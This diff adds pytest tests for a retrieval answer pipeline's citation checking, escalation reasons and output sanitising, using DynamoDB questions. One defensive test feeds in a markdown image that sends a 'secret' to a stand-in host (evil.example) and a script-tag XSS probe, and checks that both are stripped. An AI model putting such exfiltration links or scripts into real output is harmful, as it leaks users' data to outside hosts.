@@ -1,0 +1,70 @@
+"""Citation checking: scripted generators (real implementations of the generator protocol) on real hits."""
+
+from __future__ import annotations
+
+import asyncio
+
+import pytest
+
+from core.types import Channel
+from serving.pipeline import AnswerPipeline, sanitize
+from serving.schemas import AnswerRequest
+
+pytestmark = pytest.mark.slow
+
+QUESTION = "What is the size of a null attribute in DynamoDB?"
+
+
+class ScriptedGenerator:
+    """Streams a fixed text in small deltas, like an LLM would."""
+
+    name = "scripted"
+    model = "scripted"
+
+    def __init__(self, text: str) -> None:
+        self.text = text
+
+    async def stream(self, question, history, evidence, *, voice=False):
+        for i in range(0, len(self.text), 7):
+            yield self.text[i:i + 7]
+
+
+def run(aws_container, text: str):
+    base = aws_container.pipeline
+    pipeline = AnswerPipeline(base.retriever, ScriptedGenerator(text), base.sparse, base.policy,
+                              workspace=base.workspace)
+    return asyncio.run(pipeline.answer(AnswerRequest(question=QUESTION, channel=Channel.CHAT)))
+
+
+def test_supported_cited_answer_passes(aws_container) -> None:
+    r = run(aws_container, "The size of a null attribute is the length of the attribute name plus 1 byte [1].")
+    assert r.decision == "answer", r
+    assert r.citations[0].marker == 1 and "null attribute" in r.citations[0].quote
+
+
+def test_uncited_but_supported_sentence_gets_attributed(aws_container) -> None:
+    r = run(aws_container, "The size of a null attribute is the length of the attribute name plus 1 byte.")
+    assert r.decision == "answer" and r.answer.endswith("]") and len(r.citations) == 1
+
+
+@pytest.mark.parametrize("text, reason", [
+    ("A null attribute takes 7 bytes in DynamoDB [1].", "unsupported_citation"),  # quantity not in source
+    ("A null attribute takes 2 kilobytes in DynamoDB.", "unsupported_claim"),
+    ("The size of a null attribute is one byte [9].", "invalid_citation"),  # not a retrieved source
+    ("ESCALATE", "generator_declined"),
+    ("Our premium plan includes unlimited llamas and free pizza.", "unsupported_claim"),
+    ("", "uncited_answer"),
+])
+def test_unchecked_answers_escalate(aws_container, text, reason) -> None:
+    r = run(aws_container, text)
+    assert r.decision == "escalate" and r.reason == reason and r.answer == "" and r.citations == []
+    assert r.handoff_summary and QUESTION in r.handoff_summary
+
+
+def test_markup_links_and_images_are_stripped(aws_container) -> None:
+    text = ("The size of a null attribute is the length of the attribute name plus 1 byte [1]. "
+            "![x](http://evil.example/leak?q=secret) <script>alert(1)</script>")
+    r = run(aws_container, text)
+    assert r.decision == "answer"
+    assert "http" not in r.answer and "<" not in r.answer and "![" not in r.answer
+    assert sanitize("See [the guide](https://evil.example/x) now <b>ok</b>") == "See the guide now ok"
